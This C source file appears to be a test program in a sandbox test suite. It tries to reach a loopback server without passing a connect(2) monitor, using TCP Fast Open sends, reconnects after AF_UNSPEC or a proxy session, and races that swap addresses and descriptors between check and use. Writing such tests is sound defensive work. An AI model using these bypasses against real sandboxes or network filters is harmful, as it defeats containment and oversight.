/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The server outside, past whoever looks at connect(2): calls that connect without it, and addresses and descriptors that are others when they are
 * used than when they are looked at. ARG: the server's port (TCP, on 127.0.0.1); how often.
 */
#include "attack.h"

#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sys/socket.h>

#define SECRET "secret message\r\n\r\n" /* a proxy takes it for a request, and refuses it at once */
#define PROXY 3128
#define FAST_OPEN 0x20000000 /* MSG_FASTOPEN */

static struct sockaddr_in at(unsigned long port)
{
	return (struct sockaddr_in){ .sin_family = AF_INET,
				     .sin_port = htons((uint16_t)port),
				     .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
}

static struct sockaddr_in server(const struct attack *a)
{
	return at(strtoul(a->more[0], NULL, 10));
}

static int tcp(void)
{
	return socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
}

/* Whether it was the server that answered: with one byte. */
static int answered(int fd)
{
	struct pollfd wait = { .fd = fd, .events = POLLIN };
	char byte = 0;

	if (poll(&wait, 1, 10000) != 1)
		return ETIMEDOUT;
	return read(fd, &byte, 1) == 1 && byte == '!' ? 0 : ECONNREFUSED;
}

static int told(int fd)
{
	return send(fd, SECRET, strlen(SECRET), MSG_NOSIGNAL) < 0 ? errno : answered(fd);
}

static struct msghdr message(struct sockaddr_in *to, struct iovec *data)
{
	return (struct msghdr){ .msg_name = to, .msg_namelen = sizeof(*to), .msg_iov = data, .msg_iovlen = 1 };
}

static int send_message(const struct attack *a)
{
	struct sockaddr_in to = server(a);
	struct iovec data = { (void *)SECRET, strlen(SECRET) };
	struct msghdr one = message(&to, &data);
	int fd = tcp();

	return fd < 0 || sendmsg(fd, &one, FAST_OPEN | MSG_NOSIGNAL) < 0 ? errno : answered(fd);
}

static int send_messages(const struct attack *a)
{
	struct sockaddr_in to = server(a);
	struct iovec data = { (void *)SECRET, strlen(SECRET) };
	struct mmsghdr one = { .msg_hdr = message(&to, &data) };
	int fd = tcp();

	return fd < 0 || sendmmsg(fd, &one, 1, FAST_OPEN | MSG_NOSIGNAL) < 0 ? errno : answered(fd);
}

/* It connects when something is sent. */
static int deferred(const struct attack *a)
{
	struct sockaddr_in to = server(a);
	int fd = tcp(), on = 1;

	if (fd < 0 || setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof(on)) < 0 ||
	    connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return errno;
	return told(fd);
}

/* Connected to the proxy, if there is one; then to nobody, then to the server. */
static int again(const struct attack *a)
{
	struct sockaddr_in proxy = at(PROXY), to = server(a);
	struct sockaddr nobody = { .sa_family = AF_UNSPEC };
	int fd = tcp();

	if (fd < 0)
		return errno;
	if (getenv("HTTP_PROXY"))
		(void)connect(fd, (struct sockaddr *)&proxy, sizeof(proxy));
	if (connect(fd, &nobody, sizeof(nobody)) < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return errno;
	return told(fd);
}

/* After the end of its connection to the proxy. */
static int after_end(const struct attack *a)
{
	struct sockaddr_in proxy = at(PROXY), to = server(a);
	int fd = tcp();
	char rest[4096];

	if (fd < 0)
		return errno;
	if (getenv("HTTP_PROXY") && connect(fd, (struct sockaddr *)&proxy, sizeof(proxy)) == 0 &&
	    send(fd, SECRET, strlen(SECRET), MSG_NOSIGNAL) > 0) {
		while (read(fd, rest, sizeof(rest)) > 0)
			;
		(void)shutdown(fd, SHUT_RDWR);
	}
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
		return errno;
	return told(fd);
}

/* --- races ----------------------------------------------------------------------------------------------------------------------------- */

struct swap {
	struct sockaddr_in address;
	in_port_t ports[2];
	int fd, others[2]; /* what is put in the place of fd; negative: it stays */
	int stop;
};

static void *change(void *argument)
{
	struct swap *swap = argument;

	for (unsigned i = 0; !__atomic_load_n(&swap->stop, __ATOMIC_RELAXED); i++) {
		__atomic_store_n(&swap->address.sin_port, swap->ports[i % 2], __ATOMIC_RELAXED);
		if (swap->others[0] >= 0)
			(void)dup2(swap->others[i % 2], swap->fd);
	}
	return NULL;
}

/* What is put in its place is new in each round: none stays connected. */
static void renew(const struct swap *swap)
{
	for (size_t i = 0; i < COUNT(swap->others) && swap->others[i] >= 0; i++) {
		int fd = tcp();

		(void)dup2(fd, swap->others[i]);
		(void)close(fd);
	}
}

/* Whatever it has got, it tells; by a descriptor that stays what it is. */
static int attempt(struct swap *swap)
{
	int fd = tcp(), got, r;

	if (fd < 0)
		return errno;
	renew(swap);
	if (swap->others[0] < 0)
		swap->fd = dup(fd);
	r = connect(swap->fd, (struct sockaddr *)&swap->address, sizeof(swap->address)) < 0 ? errno : 0;
	got = dup(swap->fd);
	if (r == 0)
		r = told(got);
	(void)close(got);
	if (swap->others[0] < 0)
		(void)close(swap->fd);
	(void)close(fd);
	return r;
}

static int race(const struct attack *a, struct swap *swap)
{
	long rounds = strtol(a->more[1], NULL, 10);
	pthread_t thread;
	int r = NOTHING;

	swap->address = at(PROXY);
	swap->ports[0] = swap->address.sin_port;
	swap->ports[1] = server(a).sin_port;
	if (pthread_create(&thread, NULL, change, swap) != 0)
		return EAGAIN;
	for (long i = 0; i < rounds && r != 0; i++)
		r = attempt(swap);
	__atomic_store_n(&swap->stop, 1, __ATOMIC_RELAXED);
	(void)pthread_join(thread, NULL);
	return r;
}

static int rewritten(const struct attack *a)
{
	struct swap swap = { .others = { -1, -1 } };

	return race(a, &swap);
}

/* The descriptor, too, is another from moment to moment. */
static int exchanged(const struct attack *a)
{
	struct swap swap = { .fd = tcp(), .others = { tcp(), tcp() } };

	return swap.fd < 0 || swap.others[0] < 0 || swap.others[1] < 0 ? errno : race(a, &swap);
}

static const struct way ways[] = {
	{ "send_message", send_message }, { "send_messages", send_messages }, { "deferred", deferred },   { "again", again },
	{ "after_end", after_end },       { "rewritten", rewritten },         { "exchanged", exchanged },
};

ATTACK_MAIN(ways)
